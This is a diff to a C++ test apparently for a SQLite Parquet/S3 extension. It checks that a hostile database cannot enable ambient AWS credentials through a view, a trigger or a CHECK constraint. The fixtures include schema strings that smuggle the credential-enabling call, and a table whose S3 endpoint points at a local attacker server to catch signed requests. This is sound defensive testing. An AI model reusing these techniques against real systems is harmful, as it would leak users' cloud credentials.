@@ -260,29 +260,42 @@ TEST_CASE("only the application lifts the credential rule: parquet_allow_ambient
   CleanAwsEnvironment clean;
   TempDir dir;
   AttackerServer attacker;
+  const std::string table = WithPort("'s3://bkt/data.parquet', s3_endpoint='http://127.0.0.1:PORT'", attacker.port());
+  // A file tries to lift the rule itself from a view and a trigger (SQLITE_DIRECTONLY
+  // refuses both) ...
   const std::string evil = dir.File("evil.db");
-  // The file also tries to lift the rule itself: from a view, a trigger and a CHECK
-  // constraint (SQLite before 3.52 does not apply SQLITE_DIRECTONLY there to a
-  // non-deterministic function; the function's own schema check refuses then).
-  MakeHostileDatabase(dir, evil, WithPort("'s3://bkt/data.parquet', s3_endpoint='http://127.0.0.1:PORT'", attacker.port()),
+  MakeHostileDatabase(dir, evil, table,
                       "CREATE VIEW lift AS SELECT parquet_allow_ambient_credentials(1) AS was;"
                       "CREATE TABLE src(a); CREATE TRIGGER lift_trigger AFTER INSERT ON src BEGIN "
-                      "SELECT parquet_allow_ambient_credentials(1); END;"
-                      "CREATE TABLE c(a CHECK (parquet_allow_ambient_credentials(1) >= 0));");
+                      "SELECT parquet_allow_ambient_credentials(1); END;");
+  // ... and another from a CHECK constraint: SQLite before 3.52 does not apply
+  // SQLITE_DIRECTONLY there to a non-deterministic function, so the function's own schema
+  // check refuses; from 3.52 SQLite refuses the schema itself as malformed. Either way the
+  // rule stays, even for the application's own call, and nothing is sent.
+  const std::string evil_check = dir.File("evil_check.db");
+  MakeHostileDatabase(dir, evil_check, table, "CREATE TABLE c(a CHECK (parquet_allow_ambient_credentials(1) >= 0));");
   VictimCredentials credentials(Ambient::kEnvironment, dir);
+  {
+    Connection db(evil_check);
+    REQUIRE(db.Exec("SELECT count(*) FROM sqlite_master") == SQLITE_OK);  // the schema read before the load
+    db.Load();
+    CHECK(db.Exec("INSERT INTO c VALUES (1)") != SQLITE_OK);
+    ExpectRefusedByRule(db, "SELECT * FROM t", attacker, 0);
+    CHECK(db.Exec("SELECT parquet_allow_ambient_credentials(1)") != SQLITE_OK);
+    const std::string error = db.last_error();
+    CHECK_MESSAGE((error.find("refusing while table 'c'") != std::string::npos ||
+                   error.find("unsafe use of parquet_allow_ambient_credentials") != std::string::npos),
+                  error);
+    ExpectRefusedByRule(db, "SELECT * FROM t", attacker, 0);
+  }
   Connection db(evil);
-  REQUIRE(db.Exec("SELECT count(*) FROM sqlite_master") == SQLITE_OK);  // the schema read before the load
+  REQUIRE(db.Exec("SELECT count(*) FROM sqlite_master") == SQLITE_OK);
   db.Load();
   CHECK(db.Exec("SELECT * FROM lift") != SQLITE_OK);
   CHECK(db.Exec("INSERT INTO src VALUES (1)") != SQLITE_OK);
-  CHECK(db.Exec("INSERT INTO c VALUES (1)") != SQLITE_OK);
   ExpectRefusedByRule(db, "SELECT * FROM t", attacker, 0);
-  // While such a schema object is there, even the application's call is refused.
-  CHECK(db.Exec("SELECT parquet_allow_ambient_credentials(1)") != SQLITE_OK);
-  CHECK(db.last_error().find("refusing while table 'c'") != std::string::npos);
-  REQUIRE(db.Exec("DROP TABLE c") == SQLITE_OK);
   // The application's own call: the request goes out signed with the ambient credentials.
-  REQUIRE(db.Exec("SELECT parquet_allow_ambient_credentials(1)") == SQLITE_OK);
+  REQUIRE_MESSAGE(db.Exec("SELECT parquet_allow_ambient_credentials(1)") == SQLITE_OK, db.last_error());
   const size_t sent = ExpectSignedWithVictimKey(db, "SELECT * FROM t", attacker, 0);
   // And 0 closes it again.
   REQUIRE(db.Exec("SELECT parquet_allow_ambient_credentials(0)") == SQLITE_OK);
